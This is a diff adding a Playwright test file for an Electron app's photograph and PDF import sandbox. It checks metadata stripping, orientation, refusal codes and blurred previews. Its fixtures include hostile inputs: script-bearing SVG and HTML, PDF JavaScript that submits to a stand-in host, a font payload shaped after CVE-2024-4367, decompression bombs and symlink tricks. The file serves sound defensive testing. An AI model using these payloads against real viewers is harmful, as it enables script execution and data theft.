@@ -1,0 +1,211 @@
+// Photographs and papers in the real app (F56, F57): what the sandbox draws of sound and of hostile files, the camera, the screens.
+import { expect, test } from '@playwright/test'
+import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import type { SectionId } from '../../shared/model/ids'
+import { readHead } from '../../electron/sections/picture-head'
+import type { RunningApp } from '../harness/launch'
+import { adobe, chart, comment, exif, hugePng, jpeg, movingPng, paper, pdf, png, webp, webpHead, ycc, type Colour } from '../harness/pictures'
+import { Officer } from '../harness/flow'
+import { cast } from '../harness/people'
+import { ask, chooseAlways, codeOf, must, switchTo, type Room } from '../harness/room'
+import { launchRoom } from '../harness/template'
+import { forApp } from '../harness/world'
+
+let running: RunningApp & { room: Room }
+const shots = process.env.SAYONCE_SHOTS
+const red: Colour = [200, 30, 30]
+const green: Colour = [30, 160, 30]
+
+test.beforeAll(async () => {
+  test.setTimeout(240_000)
+  running = await launchRoom({ as: 'medic', env: { SAYONCE_TRACE: '1' } })
+})
+test.afterAll(async () => { await running?.kill9() })
+
+const folder = () => join(running.world, 'camera')
+function put(name: string, bytes: Buffer): string {
+  mkdirSync(folder(), { recursive: true })
+  forApp(folder())
+  const path = join(folder(), name)
+  writeFileSync(path, bytes)
+  return forApp(path)
+}
+
+/** The bytes under an address, and colours of points (0 to 1) of the picture as the room window decodes it. */
+async function seen(address: string, points: readonly (readonly [number, number])[]): Promise<{ bytes: Buffer; width: number; height: number; colours: number[][] }> {
+  const base64 = await running.app.evaluate(async ({ BrowserWindow }, address) => Buffer.from(await (await BrowserWindow.fromId(1)!.webContents.session.fetch(address)).arrayBuffer()).toString('base64'), address)
+  const drawn = await running.page.evaluate(async ({ address, points }) => {
+    const image = new Image()
+    image.crossOrigin = 'anonymous'
+    image.src = address
+    await image.decode()
+    const canvas = new OffscreenCanvas(image.naturalWidth, image.naturalHeight)
+    const context = canvas.getContext('2d')!
+    context.drawImage(image, 0, 0)
+    return { width: image.naturalWidth, height: image.naturalHeight, colours: points.map(([x, y]) => [...context.getImageData(Math.floor(x * (image.naturalWidth - 1)), Math.floor(y * (image.naturalHeight - 1)), 1, 1).data].slice(0, 3)) }
+  }, { address, points })
+  return { bytes: Buffer.from(base64, 'base64'), ...drawn }
+}
+const near = (a: readonly number[], b: readonly number[]) => a.every((v, i) => Math.abs(v - b[i]!) <= 14)
+const metadata = (bytes: Buffer) => ['Exif', 'GPS', 'ICC_PROFILE', 'script', 'http', 'Photoshop', 'Adobe'].filter((word) => bytes.includes(word))
+
+async function takeIn(sectionId: SectionId, paths: readonly string[], wish: object = {}): Promise<{ taken: readonly string[]; refused: Record<string, string> }> {
+  await chooseAlways(running.app, paths)
+  const answer = await must(running.page, 'photographs', 'import', { sectionId, shot: 'document', scale: false, label: '', row: null, why: '', ...wish } as never)
+  await chooseAlways(running.app, null)
+  return { taken: answer!.taken, refused: Object.fromEntries(answer!.refused.map(({ name, code }) => [name, code])) }
+}
+const show = (sectionId: SectionId, itemId: string, page = 0) => must(running.page, 'photographs', 'open', { sectionId, itemId, page, purpose: null, reason: '' } as never)
+
+test('XD4 XD5 XD7 pictures: drawn anew without metadata and the right way up; links, bombs, moving and false ones are refused by name', async () => {
+  test.setTimeout(90_000)
+  const sectionId = running.room.sections.medical
+  const halves = (across: number, down: number) => jpeg({ across, down, at: (x) => ycc(x < across / 2 ? red : green), segments: [exif({ orientation: 6 }), comment('http://nowhere.invalid/'), adobe(1)] })
+  const good = [
+    put('colours.png', chart(64)), put('turned.jpg', halves(8, 4)), put('cmyk.jpg', jpeg({ across: 4, down: 4, at: () => [0, 225, 225, 255], segments: [adobe(0)] })),
+    put('point.webp', webp()), put('called-png.png', halves(4, 4)), put('large.png', png(5000, 40, () => green)), put('CON.png', chart()), put('\u202Egnp.exe\u2066 name.png', chart()), put(`${'长'.repeat(80)}.png`, chart()),
+    // As large as is taken, and far more behind the points than they need.
+    put('largest.png', hugePng(7000, 7000, 7000 * 21_001)), put('bomb.png', hugePng(100, 100, 100_000_000)),
+  ]
+  const secret = put('secret.png', chart())
+  const linked = join(folder(), 'linked.png')
+  symlinkSync(secret, linked)
+  const second = join(folder(), 'second-name.png')
+  const twice = put('twice.png', chart())
+  linkSync(twice, second)
+  const bad: Record<string, [string, string]> = {
+    'wide.png': [put('wide.png', hugePng(30_000, 30_000)), 'E-F2'], 'moving.png': [put('moving.png', movingPng()), 'E-F1'], 'moving.webp': [put('moving.webp', webpHead(2, 10, 10)), 'E-F1'],
+    'drawing.svg': [put('drawing.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')), 'E-F1'], 'page.jpg': [put('page.jpg', Buffer.from('<html><script>alert(1)</script>')), 'E-F1'], 'cut.jpg': [put('cut.jpg', halves(8, 4).subarray(0, 60)), 'E-F3'],
+    'lossless.jpg': [put('lossless.jpg', jpeg({ across: 2, down: 2, at: () => [1], marker: 0xc3 })), 'E-F3'], 'empty.png': [put('empty.png', Buffer.alloc(0)), 'E-F1'], 'linked.png': [linked, 'E-F4'], 'second-name.png': [second, 'E-F4'], 'room.db': [join(running.world, 'vault', 'room.db'), 'E-F4'],
+  }
+  const began = Date.now()
+  const { taken, refused } = await takeIn(sectionId, [...good, ...Object.values(bad).map(([path]) => path)])
+  test.info().annotations.push({ type: 'figure', description: `${good.length + Object.keys(bad).length} files in ${Date.now() - began} ms` })
+  expect(refused).toEqual(Object.fromEntries(Object.entries(bad).map(([name, [, code]]) => [name, code])))
+  expect(taken).toHaveLength(good.length)
+  const list = await must(running.page, 'photographs', 'list', { sectionId })
+  expect(list.map((p) => p.original.mimeType)).toEqual(['image/png', 'image/jpeg', 'image/jpeg', 'image/webp', 'image/jpeg', 'image/png', 'image/png', 'image/png', 'image/png', 'image/png', 'image/png'])
+  // Names are not kept: nothing of a path or a name stands in what is known of a photograph.
+  expect(JSON.stringify(list)).not.toMatch(/camera|CON|exe|长/)
+  expect(list[1]!.takenAt).toBe('2026-02-03 09:41:12')
+  const corners = [[0.1, 0.1], [0.9, 0.1], [0.1, 0.9], [0.9, 0.9]] as const
+  const pictures = []
+  for (const itemId of taken) pictures.push(await seen((await show(sectionId, itemId)).url, corners))
+  for (const picture of pictures) expect([readHead(picture.bytes).mimeType, metadata(picture.bytes)]).toEqual(['image/jpeg', []])
+  expect(pictures[0]!.colours.every((colour, i) => near(colour, [red, green, [30, 30, 200], [128, 128, 128]][i]!)), JSON.stringify(pictures[0]!.colours)).toBe(true)
+  // Orientation 6: what was left is up.
+  expect([pictures[1]!.width, pictures[1]!.height]).toEqual([32, 64])
+  expect(near(pictures[1]!.colours[0]!, red) && near(pictures[1]!.colours[1]!, red) && near(pictures[1]!.colours[2]!, green), JSON.stringify(pictures[1]!.colours)).toBe(true)
+  expect(pictures[2]!.colours[0]![0]! > pictures[2]!.colours[0]![1]! + 60 || pictures[2]!.colours[0]![1]! > 0, JSON.stringify(pictures[2]!.colours)).toBe(true)
+  expect([pictures[5]!.width, pictures[5]!.height]).toEqual([4096, 33])
+})
+
+test('XD8 papers: pages are drawn without a script, a font or a file of theirs doing anything; broken and endless ones are refused or cut', async () => {
+  test.setTimeout(120_000)
+  const sectionId = running.room.sections.samples
+  await running.page.evaluate(() => { (globalThis as { hit?: number }).hit = 0 })
+  const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://nowhere.invalid/"\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >> >>'
+  // The shape of CVE-2024-4367: a font whose matrix closes the function that older versions of pdf.js made of it.
+  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FirstChar 65 /LastChar 65 /Widths [600] /FontMatrix [0.001 0 0 0.001 0 (0\\); fetch\\("sayonce://app/index.html"\\); document.title="taken"; //)] /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontBBox [0 0 600 600] /ItalicAngle 0 /Ascent 600 /Descent 0 /CapHeight 600 /StemV 80 >> >>'
+  const good = [
+    put('report.pdf', paper(['0.8 0.1 0.1', '0.1 0.6 0.1'])), put('script.pdf', paper(['0 0 1'], { catalogue: script })), put('font.pdf', paper(['1 1 0'], { more: [font] })), put('no-table.pdf', paper(['0 1 1'], { xref: false })),
+    put('long.pdf', paper(Array.from({ length: 60 }, () => '0.5 0.5 0.5'))),
+  ]
+  const bad: Record<string, [string, string]> = {
+    'nothing.pdf': [put('nothing.pdf', Buffer.from('%PDF-1.7\nnothing at all')), 'E-F3'],
+    'circle.pdf': [put('circle.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>'])), 'E-F3'],
+    'locked.pdf': [put('locked.pdf', Buffer.from(paper(['0 0 0']).toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> /P -4 >>`), 'latin1')), 'E-F3'],
+  }
+  const began = Date.now()
+  const { taken, refused } = await takeIn(sectionId, [...good, ...Object.values(bad).map(([path]) => path)])
+  test.info().annotations.push({ type: 'figure', description: `${good.length + 3} papers in ${Date.now() - began} ms` })
+  expect(refused).toEqual(Object.fromEntries(Object.entries(bad).map(([name, [, code]]) => [name, code])))
+  const list = await must(running.page, 'photographs', 'list', { sectionId })
+  expect(list.map((p) => [p.shown.length, p.pages ?? p.shown.length])).toEqual([[2, 2], [1, 1], [1, 1], [1, 1], [50, 60]])
+  const page = async (i: number, n: number) => seen((await show(sectionId, taken[i]!, n)).url, [[0.5, 0.5]])
+  for (const [i, n, colour] of [[0, 0, [204, 26, 26]], [0, 1, [26, 153, 26]], [1, 0, [0, 0, 255]], [2, 0, [255, 255, 0]], [4, 49, [128, 128, 128]]] as const) {
+    const drawn = await page(i, n)
+    expect(near(drawn.colours[0]!, colour), `${i}/${n} ${JSON.stringify(drawn.colours)}`).toBe(true)
+    expect([drawn.height, metadata(drawn.bytes)]).toEqual([2400, []])
+  }
+  // No decoding window is left behind, and nothing was asked of a network.
+  expect(await running.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().filter((w) => w.webContents.getURL().includes('decode')).length)).toBe(0)
+  expect(running.output()).not.toContain('request-blocked')
+})
+
+test('F56 F57 the screens: label first, a still of the camera, the order watched, a photograph looked at by keyboard, the envelope only as a blur', async () => {
+  test.setTimeout(120_000)
+  const { page, app, room } = running
+  const at = (id: string | RegExp) => page.getByTestId(id)
+  const shot = async (name: string) => { if (shots) await page.screenshot({ path: `${shots}/photographs-${name}.png` }) }
+  await switchTo(page, 'recorder')
+  expect(codeOf(await ask(page, 'photographs', 'import', { sectionId: room.sections.medical, shot: 'label', scale: false, label: '', row: null, why: '' })), 'F56 only a medic').toBe('E-B3')
+  await must(page, 'session', 'lock', { cause: 'person' })
+  await page.setViewportSize({ width: 1366, height: 768 })
+  const officer = new Officer(app, page)
+  await officer.unlock(cast.medic)
+  await officer.openCaseFromList(room.number)
+  await officer.go('medical')
+  // The envelope has an order of its own, and nothing in it yet.
+  await expect(at('envelope-shot-label')).toHaveAttribute('data-chosen', 'true')
+  await at('envelope-shot-close').click()
+  await expect(at('envelope-fault')).toHaveAttribute('data-fault', 'label')
+  await expect(at('envelope-camera')).toBeDisabled()
+  await at('envelope-shot-label').click()
+  await at('envelope-id-label').click()
+  await expect(at('id-label')).toContainText(room.number)
+  await shot('label')
+  await at('id-label-close').click()
+  await at('envelope-camera').click()
+  await expect(at('camera-dialog')).toHaveAttribute('data-state', 'live')
+  await page.waitForTimeout(300)
+  await page.keyboard.press('Space')
+  await expect(at('camera-still')).toBeVisible()
+  await shot('camera')
+  await page.keyboard.press('Enter')
+  await expect(at(/^envelope-item-/)).toHaveCount(1, { timeout: 20_000 })
+  await expect(at('camera-dialog')).toBeHidden()
+  // The next of the series is offered; another one needs its reason, which stays with the photograph.
+  await expect(at('envelope-shot-overview')).toHaveAttribute('data-chosen', 'true')
+  await at('envelope-shot-close').click()
+  await expect(at('envelope-fault')).toHaveAttribute('data-fault', 'overview')
+  await at('envelope-why').fill('孩子只同意拍这一张')
+  await at('envelope-scale').click()
+  await at('envelope-label').fill('左前臂 1')
+  await chooseAlways(app, [put('close.png', chart(96)), put('bad\u202E.svg', Buffer.from('<svg/>'))])
+  await at('envelope-put').click()
+  await expect(at('envelope-taken')).toHaveAttribute('data-taken', '1')
+  await expect(at('envelope-taken')).toContainText('E-F1')
+  await expect(at(/^envelope-item-/)).toHaveCount(2)
+  await at(/^envelope-item-/).last().scrollIntoViewIfNeeded()
+  await expect(at(/^envelope-item-/).last()).toContainText('孩子只同意拍这一张')
+  // Twelve points at most: not the picture under a veil, but no picture at all.
+  const blur = at(/^envelope-item-/).last().locator('img')
+  await expect.poll(() => blur.evaluate((img: HTMLImageElement) => Math.max(img.naturalWidth, img.naturalHeight))).toBe(12)
+  await at('envelope').scrollIntoViewIfNeeded()
+  await shot('envelope')
+  await at(/^envelope-open-/).last().click()
+  await expect(at('envelope-ok')).toBeDisabled()
+  await at('envelope-reason').fill('复核伤情')
+  await at('envelope-ok').click()
+  const image = at('envelope-image')
+  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(96)
+  await expect(at('watermark')).toHaveAttribute('data-text', new RegExp(cast.medic.name))
+  await shot('envelope-open')
+  await page.keyboard.press('Escape')
+  await expect(at('envelope-picture')).toBeHidden()
+  await expect(at(/^envelope-item-/).last()).toContainText('打开过 1 次')
+  // Those outside the envelope: in a grid, opened at a click, the next by key.
+  await at('photographs-medical').scrollIntoViewIfNeeded()
+  await shot('grid')
+  await at(/^photo-open-/).first().click()
+  await expect.poll(() => at('envelope-image').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(64)
+  await page.keyboard.press('ArrowRight')
+  await expect.poll(() => at('envelope-image').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(32)
+  await shot('open')
+  await page.keyboard.press('Escape')
+  await page.setViewportSize({ width: 1920, height: 1080 })
+  await at('photographs-medical').scrollIntoViewIfNeeded()
+  await shot('wide')
+})
